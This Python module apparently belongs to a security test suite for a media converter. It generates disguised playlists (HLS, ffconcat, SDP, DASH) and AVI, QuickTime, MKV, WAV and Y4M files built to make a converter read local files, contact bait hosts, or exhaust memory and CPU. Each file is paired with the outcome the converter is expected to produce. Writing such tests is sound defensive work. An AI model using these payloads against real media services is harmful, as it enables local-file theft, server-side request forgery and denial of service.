# ruff: noqa: E501 - a payload reads best in one piece
"""Sound and film that are lists of other files, and headers that lie (recipe 11)."""

from __future__ import annotations

import struct

from makers.attack import ANY, BAD, EITHER, LARGE, Attack, Bait, Twin, ends


def _hls(bait: Bait) -> bytes:
    parts = "\n".join(
        f"#EXTINF:1,\n{link}"
        for link in (*bait.links, f"concat:{bait.url}/h|file://{bait.file}", f"subfile,,start,0,end,99,,:{bait.file}", bait.udp,
                     f"tcp://{bait.host}", f"crypto+{bait.url}/k", f"data:text/plain,{bait.url}", "gopher://127.0.0.1/")
    )  # fmt: skip
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}/key"\n#EXT-X-MAP:URI="file://{bait.file}"\n'
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n{key}{parts}\n#EXT-X-ENDLIST\n".encode()


def _concat(bait: Bait) -> bytes:
    return ("ffconcat version 1.0\n" + "".join(f"file '{link}'\n" for link in (*bait.links, bait.udp))).encode()


def _sdp(bait: Bait) -> bytes:
    return (
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:rtsp://{bait.host}/x\n"
        f"m=video {bait.canaries.udp_port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    ).encode()


def _dash(bait: Bait) -> bytes:
    return (
        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT1S"><Period><AdaptationSet '
        f'mimeType="video/mp4"><Representation id="1"><BaseURL>{bait.url}/v.mp4</BaseURL><SegmentList><SegmentURL media="file://'
        f'{bait.file}"/></SegmentList></Representation></AdaptationSet></Period></MPD>'
    ).encode()


def _avi(bait: Bait) -> bytes:
    """The playlist that hid in the subtitles of a film (CVE-2017-9993)."""
    list_of_files = _hls(bait)
    gab2 = (
        b"GAB2\0\2\0"
        + struct.pack("<I", 10)
        + b"H\0L\0S\0\0\0\0\0"
        + struct.pack("<HI", 4, len(list_of_files))
        + list_of_files
    )
    stream = (
        b"strh" + struct.pack("<I", 56) + b"txts" + b"\0" * 16 + struct.pack("<IIIIII", 1, 1, 0, 1, 0, 0) + b"\0" * 12
    )
    stream += b"strf" + struct.pack("<I", 40) + b"\0" * 40
    header = b"avih" + struct.pack("<I", 56) + b"\0" * 24 + struct.pack("<I", 1) + b"\0" * 28
    hdrl = b"hdrl" + header + b"LIST" + struct.pack("<I", len(stream) + 4) + b"strl" + stream
    frames = b"00tx" + struct.pack("<I", len(gab2)) + gab2 + b"\0" * (len(gab2) % 2)
    body = (
        b"AVI LIST"
        + struct.pack("<I", len(hdrl))
        + hdrl
        + b"LIST"
        + struct.pack("<I", len(frames) + 4)
        + b"movi"
        + frames
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def _mov(*, reference: bytes = b"", samples: int = 1, size: int = 16, sides: tuple[int, int] = (16, 16)) -> bytes:
    """One video track of raw pictures. `reference` is the data reference that says where the bytes lie."""
    kind = (
        b"\0" * 6
        + b"\0\1"
        + b"\0" * 16
        + struct.pack(">HH", *sides)
        + b"\0\x48\0\0" * 2
        + b"\0" * 4
        + b"\0\1"
        + b"\0" * 32
        + b"\0\x18\xff\xff"
    )
    table = _box(b"stbl", b"".join((
        _box(b"stsd", struct.pack(">II", 0, 1) + _box(b"raw ", kind)),
        _box(b"stts", struct.pack(">IIII", 0, 1, samples, 1)),
        _box(b"stsc", struct.pack(">IIIII", 0, 1, 1, samples, 1)),
        _box(b"stsz", struct.pack(">III", 0, size, samples)),
        _box(b"stco", struct.pack(">III", 0, 1, 24)),
    )))  # fmt: skip
    data = _box(b"dinf", _box(b"dref", struct.pack(">II", 0, 1) + (reference or _box(b"url ", b"\0\0\0\1"))))
    minf = _box(b"minf", _box(b"vmhd", b"\0" * 12) + data + table)
    media = _box(b"mdia", _box(b"mdhd", b"\0" * 12 + struct.pack(">II", 25, samples) + b"\0" * 4)
                 + _box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 13) + minf)  # fmt: skip
    track = _box(
        b"trak",
        _box(
            b"tkhd",
            b"\0\0\0\3" + b"\0" * 8 + struct.pack(">I", 1) + b"\0" * 4 + struct.pack(">I", samples) + b"\0" * 60,
        )
        + media,
    )
    moov = _box(b"moov", _box(b"mvhd", b"\0" * 12 + struct.pack(">II", 25, samples) + b"\0" * 80) + track)
    return _box(b"ftyp", b"qt  \0\0\0\0") + _box(b"mdat", b"\x55" * 4096) + moov


def _alias(bait: Bait) -> bytes:
    """A QuickTime alias: the samples lie in another file."""
    path = bait.file.encode()
    record = (
        b"\0" * 4
        + b"\0" * 2
        + struct.pack(">H", 150)
        + b"\0" * 142
        + struct.pack(">HH", 2, len(path))
        + path
        + b"\0" * (len(path) % 2)
    )
    record += struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0"
    return _box(b"alis", b"\0\0\0\0" + record)


def _url_reference(bait: Bait) -> bytes:
    return _box(b"url ", b"\0\0\0\0" + f"{bait.url}/mov".encode() + b"\0")


def wav(*, declared: int | None = None, data: bytes = b"\0\x10" * 8000) -> bytes:
    length = len(data) if declared is None else declared
    form = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    return (
        b"RIFF"
        + struct.pack("<I", min(0xFFFFFFFF, length + 36))
        + b"WAVEfmt "
        + struct.pack("<I", 16)
        + form
        + b"data"
        + struct.pack("<I", length)
        + data
    )


def _ebml(depth: int) -> bytes:
    """Tags within tags within tags."""
    head = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"
    inner = b""
    for _ in range(depth):
        inner = b"\x67\xc8" + struct.pack(">Q", len(inner) | 1 << 56) + inner
        if len(inner) > 1 << 16:
            break
    return (
        head
        + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"
        + b"\x12\x54\xc3\x67"
        + struct.pack(">Q", len(inner) | 1 << 56)
        + inner
    )


_NO_FILM = BAD | ends("unsupported_conversion")
_LISTS = (("mp4", "mp3"), ("avi", "mp4"), ("mp3", "wav"), ("mkv", "mp4"), ("wav", "mp3"), ("ts", "mp4"), ("mov", "gif"))

ATTACKS = (
    *(Attack(f"hls-named-{name}", f"a.{name}", _hls, (target,), ("B18",), _NO_FILM) for name, target in _LISTS),
    *(Attack(f"hls-said-to-be-{name}", f"a.{name}", _hls, (target,), ("B18",), _NO_FILM, name) for name, target in _LISTS),
    Attack("hls", "a.m3u8", _hls, ("mp4",), ("B18",), _NO_FILM),
    *(Attack(f"{form}-said-to-be-{name}", f"a.{name}", make, ("mp4",), ("B18",), _NO_FILM, name)
      for form, make in (("ffconcat", _concat), ("sdp", _sdp), ("dash", _dash)) for name in ("mkv", "avi")),
    Attack("avi-with-a-playlist-inside", "a.avi", _avi, ("mp4", "png"), ("B18",), _NO_FILM),
    Attack("mov-alias", "a.mov", lambda bait: _mov(reference=_alias(bait)), ("mp4", "png"), ("B18",), EITHER),
    Attack("mov-data-elsewhere", "a.mov", lambda bait: _mov(reference=_url_reference(bait)), ("mp4", "png"), ("B18",), EITHER),
    Attack("mov-a-thousand-million-frames", "a.mov", lambda _: _mov(samples=10**9, size=0), ("mp4", "gif"), ("B20",), ANY),
    Attack("mov-vast-frames", "a.mov", lambda _: _mov(sides=(60_000, 60_000)), ("mp4", "png"), ("B20", "B21"), ANY),
    Attack("mp4-endless-box", "a.mp4", lambda _: _box(b"ftyp", b"isom\0\0\0\0") + b"\0\0\0\1moov" + b"\x7f" + b"\xff" * 7 + b"\0" * 99,
           ("mp3",), ("B20", "B31"), ends("corrupt_input")),
    Attack("mp4-deep-boxes", "a.mp4", lambda _: _box(b"ftyp", b"isom\0\0\0\0") + b"\x00\x0f\x00\x00moov" * 100_000, ("mp4",), ("B31",), _NO_FILM),
    Attack("mkv-deep", "a.mkv", lambda _: _ebml(60_000), ("mp4",), ("B31",), _NO_FILM | LARGE),
    Attack("wav-of-four-gigabytes", "a.wav", lambda _: wav(declared=0xFFFFFFFF), ("mp3", "flac"), ("B20",), EITHER),
    Attack("y4m-flood", "a.y4m", lambda _: b"YUV4MPEG2 W20000 H20000 F1:1 C420jpeg\nFRAME\n" + b"\x80" * 4096, ("mp4", "png"), ("B20", "B21"),
           LARGE | BAD),
    Attack("y4m-million-a-second", "a.y4m", lambda _: b"YUV4MPEG2 W16 H16 F1000000:1 C420jpeg\n" + (b"FRAME\n" + b"\x80" * 384) * 200, ("gif", "mp4"),
           ("B20",), ANY),
    Attack("y4m-one-in-a-million", "a.y4m", lambda _: b"YUV4MPEG2 W16 H16 F1:1000000 C420jpeg\n" + (b"FRAME\n" + b"\x80" * 384) * 20, ("gif", "mp4"),
           ("B20",), ANY),
)  # fmt: skip

TWINS = (
    Twin("wav", "a.wav", wav, "mp3", "", ("B18",)),
    Twin("mov that holds its own data", "a.mov", lambda: _mov(samples=5, size=768), "mp4", "", ("B18", "B20")),
)
